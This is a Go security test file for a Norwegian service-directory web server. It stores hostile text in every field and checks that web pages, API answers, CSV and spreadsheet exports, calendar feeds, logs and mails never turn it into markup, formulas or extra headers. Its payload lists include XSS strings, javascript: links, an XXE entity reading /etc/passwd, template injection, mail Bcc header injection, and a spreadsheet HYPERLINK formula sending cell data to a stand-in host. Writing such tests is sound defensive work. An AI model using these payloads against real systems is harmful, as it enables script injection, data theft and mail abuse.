package server

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"mime"
	"mime/quotedprintable"
	"net/http"
	netmail "net/mail"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	gomail "github.com/wneessen/go-mail"

	"github.com/nasjonal-oversikt/oversikt/internal/article"
	"github.com/nasjonal-oversikt/oversikt/internal/directory"
	"github.com/nasjonal-oversikt/oversikt/internal/mail"
	"github.com/nasjonal-oversikt/oversikt/internal/staff"
	"github.com/nasjonal-oversikt/oversikt/internal/store"
)

// hostile is what somebody may write where a name or a text is asked for. Each holds "qx" in
// what it would make, so that what came of it is found. Postgres stores neither NUL nor
// halves of surrogates; those are tried on the ways in.
var hostile = []struct{ name, text string }{
	{"script", `<script>qx()</script>`},
	{"end of a script", `</script><script>qx()</script>`},
	{"comment in a script", `<!--<script>qx`},
	{"end of a comment", `--><qx-ny onclick=qx()>`},
	{"end of CDATA", `]]><qx-ny>`},
	{"image", `"><img src=qx onerror=qx()>`},
	{"attribute", `" onfocus="qx()" autofocus="`},
	{"attribute, single", `' onfocus='qx()' autofocus='`},
	{"attribute, bare", " onfocus=qx() "},
	{"end of title and textarea", `</title></textarea></style></noscript><qx-ny>`},
	{"svg", `<svg/onload=qx()>`},
	{"frame", `<iframe srcdoc="<script>qx()</script>">`},
	{"form", `</form><form action="https://qx.example.org/">`},
	{"base", `<base href="https://qx.example.org/">`},
	{"refresh", `<meta http-equiv=refresh content="0;url=https://qx.example.org/">`},
	{"style", `<style>@import "https://qx.example.org/";</style>`},
	{"markdown link", `[qx](javascript:qx())`},
	{"markdown link, hidden", "[qx](java\tscript:qx()) [qx](&#106;avascript:qx()) ![qx](data:text/html,qx)"},
	{"markdown html", "\n\n<div onclick=\"qx()\">qx</div>\n\n"},
	{"link", `javascript:qx()`},
	{"entity", `&lt;qx&gt;&qx;&#60;qx-ny&#62;`},
	{"document type", `<!DOCTYPE x [<!ENTITY qx SYSTEM "file:///etc/passwd">]>`},
	{"template", `{{qx}} ${qx} #{qx} <%= qx %> {%qx%} {{constructor.constructor('qx()')()}}`},
	{"turtle", `""" . <https://qx.example.org/> a <qx> . """ \` + "\n"},
	{"line separators", "qx\u2028qx\u2029qx"},
	{"mail header", "qx\r\nBcc: qx@example.org\r\n\r\nqx"},
	{"calendar", "qx\r\nATTENDEE:mailto:qx@example.org\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nX-QX:1"},
	{"log", "qx\n{\"msg\":\"qx\"}"},
	{"format", "%s%n%d%qx %!(EXTRA qx)"},
	{"long word", "qx" + strings.Repeat("å", 120)},
	{"pile", "qx" + strings.Repeat("\u0301\u0489", 60)},
}

// unseen are characters that no text of a person holds, and no door lets in: they steer
// terminals, turn the order of what is read, cannot stand in XML, or are none.
var unseen = []string{"\x1b[31mqx\x1b]0;qx\x07", "qx\x01", "qx\x08", "qx\x0b", "qx\x0c", "qx\x1f", "qx\x7f", "qx\u0085", "qx\u009b31m", "qx\u202eqx", "qx\u2066qx\u2069", "qx\ufffeqx", "qx\uffff", "qx\U000e0041"}

// formulas are what a spreadsheet may carry out where a cell begins with it.
var formulas = []string{`=HYPERLINK("https://qx.example.org/?"&A1;"qx")`, "+qx+1", "-qx+1", "@SUM(qx)", "\t=qx()", "\r=qx()", "\n=qx()", " =qx()", "\u200b=qx()", "＝qx()", "\"=qx()", ";=qx()", "'=qx()"}

func markupText() string {
	var b strings.Builder
	for _, h := range hostile {
		b.WriteString("merke " + h.text + " ")
	}
	return b.String()
}

// addresses that no link may lead to.
var hostileAddresses = []string{"javascript:qx()//", "data:text/html,qx", "\x01javascript:qx()", "https://qx.example.org/\"onmouseover=\"qx()", "//qx.example.org/", "vbscript:qx"}

// faults returns what content has done to the answer.
func (d door) faults() []string {
	var faults []string
	say := func(format string, values ...any) { faults = append(faults, fmt.Sprintf(format, values...)) }
	if d.status >= http.StatusInternalServerError {
		say("status %d", d.status)
	}
	for name, values := range d.header {
		for _, v := range values {
			if strings.ContainsFunc(v, func(r rune) bool { return r < ' ' || r == 0x7f }) || strings.Contains(name, "Bcc") {
				say("header %s: %q", name, v)
			}
		}
	}
	if to := d.header.Get("Location"); to != "" && local(to) == nil {
		say("leads to %q", to)
	}
	if d.body == "" {
		return faults
	}
	if !utf8.ValidString(d.body) && (strings.HasPrefix(d.kind, "text/") || strings.HasSuffix(d.kind, "json") || strings.HasSuffix(d.kind, "xml")) {
		say("is no UTF-8")
	}
	switch d.kind {
	case "text/html":
		faults = append(faults, htmlFaults(d.body)...)
	case "application/json", "application/problem+json", "application/ld+json", "application/fhir+json", "application/manifest+json", "application/geo+json", "application/schema+json":
		faults = append(faults, jsonFaults([]byte(d.body))...)
	case "application/x-ndjson", "application/jsonl":
		for line := range strings.Lines(d.body) {
			faults = append(faults, jsonFaults([]byte(line))...)
		}
	case "text/csv":
		faults = append(faults, csvFaults(d.body)...)
	case "text/calendar":
		faults = append(faults, calendarFaults(d.body)...)
	case "application/xml", "text/xml", "image/svg+xml", "application/atom+xml", "application/opensearchdescription+xml":
		faults = append(faults, xmlFaults(d.body)...)
	case "text/turtle":
		faults = append(faults, turtleFaults(d.body)...)
	case "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet":
		faults = append(faults, workbookFaults([]byte(d.body))...)
	case "text/plain", "text/javascript", "text/css", "image/x-icon", "image/vnd.microsoft.icon", "application/javascript":
		if strings.Contains(d.body, "merke ") {
			say("%s has content in it", d.kind)
		}
	case "application/gzip", "application/zip":
	default:
		say("nothing is known of %q", d.kind)
	}
	return faults
}

// check says what is wrong with any of the answers.
func (w *hostileWorld) check(what string, doors []door) {
	w.t.Helper()
	said := map[string]bool{}
	for _, d := range doors {
		for _, fault := range d.faults() {
			if key := d.route + fault; !said[key] {
				said[key] = true
				w.t.Errorf("%s: %s (%s): %s", what, d.target, d.kind, fault)
			}
		}
	}
}

// An index that is built anew gives new answers, whatever was kept of those before: after a
// restore the numbers in the old ones may be wrong.
func TestIndexBuiltAnewGivesNewAnswers(t *testing.T) {
	w := newHostileWorld(t)
	targets := []string{fmt.Sprintf("/tilbud/%d", w.offerings[0]), fmt.Sprintf("/api/v1/tilbud/%d", w.offerings[0]), "/api/v1/tilbud", "/hsds/v3/services", "/fhir/R4/HealthcareService", "/data/tilbud.csv", "/kurs.ics"}
	tags := map[string]string{}
	for _, target := range targets {
		for range 3 { // what is asked for again is kept
			resp, _ := do(t, w.app, http.MethodGet, target)
			tags[target] = resp.Header.Get("ETag")
		}
	}
	w.put([]string{"endret"}, []string{"https://endret.example.org/"})
	for _, target := range targets {
		if resp, body := do(t, w.app, http.MethodGet, target); !strings.Contains(body, "endret") && !strings.Contains(resp.Header.Get("Location"), "endret") {
			t.Errorf("%s is as before", target)
		}
		if resp, _ := do(t, w.app, http.MethodGet, target, "If-None-Match", tags[target]); resp.StatusCode == http.StatusNotModified {
			t.Errorf("%s: whoever has the answer from before is told that it is as it was", target)
		}
	}
}

// Whatever stands in the database, every answer of the program is what it was to be: nothing
// of a text becomes an element, an attribute, a script, an address to follow, a formula, a
// property of a calendar or a line of its own.
func TestHostileContentInEveryAnswer(t *testing.T) {
	w := newHostileWorld(t)
	w.check("no hostile content", w.read(2))
	const short = `merke "><img src=qx onerror=qx()></script><qx-ny>'&lt;`
	stored, refused := w.put([]string{markupText(), short, "merke <qx-ny>"}, hostileAddresses)
	t.Logf("%d columns have it: %s", len(stored), strings.Join(stored, " "))
	if len(refused) > 0 {
		t.Errorf("constraints refuse it in %q: is it tried by their own ways?", refused)
	}
	doors := w.read(3)
	w.check("markup", doors)
	shown := map[string]int{}
	for _, d := range doors {
		if strings.Contains(d.body, "merke ") {
			shown[d.kind]++
		}
	}
	t.Logf("%d answers, of which with the text: %v", len(doors), shown)
	// The text has to be there for its absence as markup to say anything.
	for _, kind := range strings.Fields("text/html application/json application/x-ndjson application/ld+json application/fhir+json text/csv text/calendar text/turtle image/svg+xml") {
		if shown[kind] == 0 {
			t.Errorf("no %s has the text: the test does not see what it should", kind)
		}
	}
	if len(stored) < 90 {
		t.Errorf("the text stands in %d columns only: %q", len(stored), stored)
	}
	checkLogLines(t, w.log.String())
}

// checkLogLines holds that each line of the log is one JSON object, whatever was asked.
func checkLogLines(t *testing.T, log string) {
	t.Helper()
	for line := range strings.Lines(log) {
		var fields map[string]any
		if err := json.Unmarshal([]byte(line), &fields); err != nil || fields["msg"] == "qx" || strings.Contains(line, "merke ") {
			t.Errorf("the log has %.300s", line)
		}
	}
}

// Whatever a text begins with, no spreadsheet carries it out.
func TestFormulasInEveryTable(t *testing.T) {
	w := newHostileWorld(t)
	targets := []string{"/kart.csv?type=annet", "/redaksjon/mange/last-ned?kommune=1804&format=csv", "/redaksjon/mange/last-ned?kommune=1804&format=xlsx"}
	for _, name := range w.files.Names() {
		if strings.HasSuffix(name, ".csv") || strings.HasSuffix(name, ".xlsx") {
			targets = append(targets, "/data/"+name)
		}
	}
	for _, formula := range formulas {
		w.put([]string{formula}, []string{seedAddress})
		seen := 0
		var doors []door
		for _, target := range targets {
			resp, body := do(t, w.app, http.MethodGet, target, "Cookie", staff.SessionCookie+"="+w.session)
			kind, _, _ := mime.ParseMediaType(resp.Header.Get("Content-Type"))
			if resp.StatusCode != http.StatusOK {
				t.Errorf("%s = %d", target, resp.StatusCode)
			}
			if strings.Contains(body, "qx") {
				seen++
			}
			doors = append(doors, door{target: target, route: target, kind: kind, status: resp.StatusCode, header: resp.Header, body: body})
		}
		if seen < 5 {
			t.Errorf("%q is in %d tables only: the test does not see what it should", formula, seen)
		}
		w.check(fmt.Sprintf("%q", formula), doors)
	}
}

// Characters that nobody writes or sees come in by no way: each is refused, or left out.
func TestUnseenCharactersComeInNowhere(t *testing.T) {
	w := newHostileWorld(t)
	ctx := t.Context()
	_, secret, err := w.store.CreateToken(ctx, tester, store.Token{Owner: bodo, Name: "Test", Scopes: store.Scopes()}, func(store.Token) store.Mail { return store.Mail{} })
	w.must(err)
	o, err := w.store.OfferingByID(ctx, w.offerings[0])
	w.must(err)
	courses, err := w.store.CoursesOf(ctx, w.offerings)
	w.must(err)
	refused := 0
	check := func(what string, err error) {
		t.Helper()
		var invalid directory.Invalid
		switch {
		case errors.As(err, &invalid):
			refused++
		case err != nil:
			t.Errorf("%s: %v, want it said which field is wrong", what, err)
		}
	}
	for i, bad := range append(slices.Clone(unseen), "qx\x00") {
		text := "Prøve " + bad
		for _, change := range []func(*directory.Offering){
			func(o *directory.Offering) { o.Name = text }, func(o *directory.Offering) { o.Summary = text }, func(o *directory.Offering) { o.Description = text }, func(o *directory.Offering) { o.Audience = text },
			func(o *directory.Offering) { o.Organization.Name = text }, func(o *directory.Offering) { o.Keywords = []string{text} }, func(o *directory.Offering) { o.Coverage.Bydel = text }, func(o *directory.Offering) { o.OpeningText = text },
			func(o *directory.Offering) { o.Cost.Text = text }, func(o *directory.Offering) { o.Referral.Text = text }, func(o *directory.Offering) { o.Complaint = text }, func(o *directory.Offering) { o.Source.Title = text },
			func(o *directory.Offering) { o.Locations = []directory.Location{{Name: text}} }, func(o *directory.Offering) { o.Locations = []directory.Location{{Street: text}} },
			func(o *directory.Offering) {
				o.Locations = []directory.Location{{Street: "Veien 1", PostalPlace: text}}
			},
			func(o *directory.Offering) { o.Phones = []directory.Phone{{Number: "+4722222222", Hours: text}} },
			func(o *directory.Offering) { o.Websites = []string{seedAddress + bad} }, func(o *directory.Offering) { o.Emails = []string{"qx" + bad + "@test.example.org"} },
		} {
			changed := o
			change(&changed)
			_, err := w.store.UpdateOffering(ctx, tester, "", changed)
			if err == nil {
				t.Errorf("an offering with %q is taken", bad)
				break
			}
			check(fmt.Sprintf("offering with %q", bad), err)
		}
		course := courses[0]
		course.Title, course.Description = text, text
		_, err := w.store.UpdateCourse(ctx, tester, "", course)
		check("course", err)
		check("term", w.store.SaveTerm(ctx, tester, "", 1, directory.Term{Kind: directory.Topic, Code: "rus", Name: directory.Text{NB: text}, Order: 1}))
		check("expression", w.store.SaveExpression(ctx, tester, "", 0, directory.Expression{Text: "prøve " + bad, Kind: directory.EverydayExpression, LeadsTo: []directory.Lead{"type:annet"}}))
		_, _, err = w.store.CreateToken(ctx, tester, store.Token{Owner: bodo, Name: text, Scopes: store.Scopes()}, func(store.Token) store.Mail { return store.Mail{} })
		check("token", err)
		_, _, err = w.store.CreateWebhook(ctx, tester, store.Webhook{Name: text, URL: seedAddress}, func(string, store.Cursor) string { return w.cursor })
		check("webhook", err)
		// Left out: what is not worth a refusal, and what a reader would have to write anew.
		account, err := w.store.CreateAccount(ctx, tester, fmt.Sprintf("usett%d@test.example.org", i), text)
		w.must(err)
		_, err = w.store.StartSession(ctx, account.ID, store.ByCode, true, text)
		w.must(err)
		w.must(w.store.RenameAccount(ctx, tester, account.ID, text))
		w.must(w.store.AddReport(ctx, store.NewReport{Offering: o.ID, Choice: store.OtherWrong, Text: text, Suggestion: text, Code: fmt.Sprintf("USETT%05d", i)}))
		_, err = w.store.SaveArticle(ctx, tester, text, article.Key{Section: "ta-vare-pa-barna", Slug: fmt.Sprintf("usett-%d", i), Language: "nb"}, "---\ntittel: Test\ningress: Test\npublisert: 2026-01-01\noppdatert: 2026-01-02\nrekkefolge: 9\n---\n"+text+"\n")
		w.must(err)
		body := encode(t, map[string]any{"navn": text, "type": map[string]any{"kode": "annet"}, "dekning": map[string]any{"kommuner": []any{map[string]any{"kommunenummer": "1804"}}}})
		resp, answer := ask(t, w.app, http.MethodPost, "/api/v1/tilbud", body, "Authorization", "Bearer "+secret, "Content-Type", "application/json")
		if resp.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(answer, `"body.navn"`) {
			t.Errorf("%q by the API: %d %s", bad, resp.StatusCode, answer)
		}
	}
	// What JSON can say and text cannot.
	for _, escape := range []string{`\ud800`, `\udc00x`, `\ud800\ud800`, `\u0000`} {
		resp, answer := ask(t, w.app, http.MethodPost, "/api/v1/tilbud", `{"navn":"Prøve `+escape+`","type":{"kode":"annet"},"dekning":{"kommuner":[{"kommunenummer":"1804"}]}}`, "Authorization", "Bearer "+secret, "Content-Type", "application/json")
		if resp.StatusCode >= 500 || resp.StatusCode == http.StatusCreated && !strings.Contains(answer, "\ufffd") {
			t.Errorf("%s by the API: %d %s", escape, resp.StatusCode, answer)
		}
	}
	if least := len(unseen) * 20; refused < least {
		t.Errorf("%d refusals, want at least %d", refused, least)
	}
	for _, column := range w.columns() {
		var n int
		pattern := "[\\u0001-\\u0008\\u000b\\u000c\\u000e-\\u001f\\u007f-\\u009f\\u202a-\\u202e\\u2066-\\u2069\\ufffe\\uffff]"
		value := column.name + "::text"
		if column.kind == "jsonb" {
			pattern, value = pattern+`|\\u00[01]`, value+"||''"
		}
		w.must(w.db.QueryRow(ctx, fmt.Sprintf("SELECT count(*) FROM %s WHERE %s ~ $1", column.table, value), pattern).Scan(&n))
		if n > 0 {
			t.Errorf("%s.%s has them in %d rows", column.table, column.name, n)
		}
	}
}

// postbox keeps what is sent, as it is sent.
type postbox [][]byte

func (p *postbox) Send(_ context.Context, m *gomail.Msg) error {
	var b bytes.Buffer
	_, err := m.WriteTo(&b)
	*p = append(*p, b.Bytes())
	return err
}

// Whatever stands in a mail, it is one message from us to the one that it is for, with the
// subject and the text that it has and nothing more.
func TestHostileMails(t *testing.T) {
	w := newHostileWorld(t)
	from := netmail.Address{Name: "Oversikt", Address: "oversikt@test.example.org"}
	sent, refused := 0, 0
	for _, h := range hostile {
		w.replace([]string{h.text}, []string{seedAddress})
		for i, m := range w.mails() {
			if m.To == "" {
				continue
			}
			payload, err := json.Marshal(m)
			w.must(err)
			var box postbox
			err = mail.Handler(&box, from, time.Now)(t.Context(), store.Job{ID: int64(i), Payload: payload})
			if err != nil || len(box) != 1 {
				if refused++; !strings.ContainsAny(m.Subject, "\r\n\t") || len(box) > 0 {
					t.Errorf("%s: a mail with the subject %q: %v, %d sent", h.name, m.Subject, err, len(box))
				}
				continue
			}
			sent++
			message, err := netmail.ReadMessage(bytes.NewReader(box[0]))
			if err != nil {
				t.Fatalf("%s: %v: %q", h.name, err, box[0])
			}
			for name, values := range message.Header {
				if len(values) != 1 || !slices.Contains(strings.Fields("Date Mime-Version Message-Id Auto-Submitted X-Auto-Response-Suppress Subject From To Content-Type Content-Transfer-Encoding"), name) {
					t.Errorf("%s: header %s %q", h.name, name, values)
				}
			}
			subject, err := new(mime.WordDecoder).DecodeHeader(message.Header.Get("Subject"))
			if to, failed := message.Header.AddressList("To"); err != nil || failed != nil || strings.TrimSpace(subject) != strings.TrimSpace(m.Subject) || len(to) != 1 || to[0].Address != m.To {
				t.Errorf("%s: subject %q, to %v, want %q to %s; %v, %v", h.name, subject, to, m.Subject, m.To, err, failed)
			}
			text, err := io.ReadAll(quotedprintable.NewReader(message.Body))
			if want := strings.ReplaceAll(strings.ReplaceAll(m.Text, "\r\n", "\n"), "\n", "\r\n"); err != nil || strings.TrimRight(strings.ReplaceAll(strings.ReplaceAll(string(text), "\r\n", "\n"), "\n", "\r\n"), "\r\n") != strings.TrimRight(want, "\r\n") {
				t.Errorf("%s: text %q, want %q, %v", h.name, text, want, err)
			}
		}
	}
	t.Logf("%d sent, %d refused for a line break in the subject", sent, refused)
	if sent < 2*len(hostile) || refused == 0 {
		t.Errorf("%d sent, %d refused: the test does not see what it should", sent, refused)
	}
}
